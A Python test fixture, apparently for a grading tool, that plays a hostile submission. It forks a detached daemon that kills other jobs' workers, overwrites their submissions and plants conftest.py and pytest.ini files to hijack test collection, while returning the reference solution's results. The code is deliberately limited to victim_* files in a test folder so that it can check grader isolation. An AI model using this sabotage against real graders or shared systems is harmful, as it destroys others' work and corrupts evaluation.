"""An attack on a class run (backprop-grade --jobs 2): for 40 s, from a daemon that left its
worker's session, it kills every other job's worker it can see, rewrites every other job's
submission it can find so that it exits at import, and plants a conftest.py and a pytest.ini
(which would record that they were imported) in its temp folder and every folder above it
that it can write. Its own work is the reference's. It aims only at submissions named
victim_* and climbs no higher than the test's shared temp folder (named shared-tmp), so
that, where it wins, it harms nothing but the test's own victims."""

import glob
import os
import time

from reference import *  # noqa: F403

REWRITTEN = "raise SystemExit('rewritten by a neighbour')\n"
PLANTED = "open(__file__ + '-imported', 'w').close()\n"
SHARED = "shared-tmp"


def _above():
    """Its temp folder, and the folders above its working folder up to the shared one."""
    found = [os.environ.get("TMPDIR", "/tmp")]
    folder = os.getcwd()
    while folder != os.path.dirname(folder):
        if SHARED in folder.split(os.sep):
            found.append(folder)
        folder = os.path.dirname(folder)
    return found


def _others():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b"worker.py" in cmdline and b"impl=" in cmdline and b"victim_" in cmdline:
            yield int(pid)


def _attack():
    for pid in _others():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    folders = _above()
    shared = [f for f in folders if os.path.basename(f) == SHARED]
    patterns = [
        f"{root}/{tail}"
        for root in shared
        for tail in ("bp-grade-*/submission/victim_*.py", "**/submission/*/victim_*.py")
    ]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "w") as f:
                    f.write(REWRITTEN)
            except OSError:
                pass
    for folder in folders:
        for name, text in (("conftest.py", PLANTED), ("pytest.ini", "[pytest]\n")):
            try:
                with open(os.path.join(folder, name), "x") as f:
                    f.write(text)
            except OSError:
                pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 40
        while time.time() < end:
            _attack()
            time.sleep(0.05)
    os._exit(0)
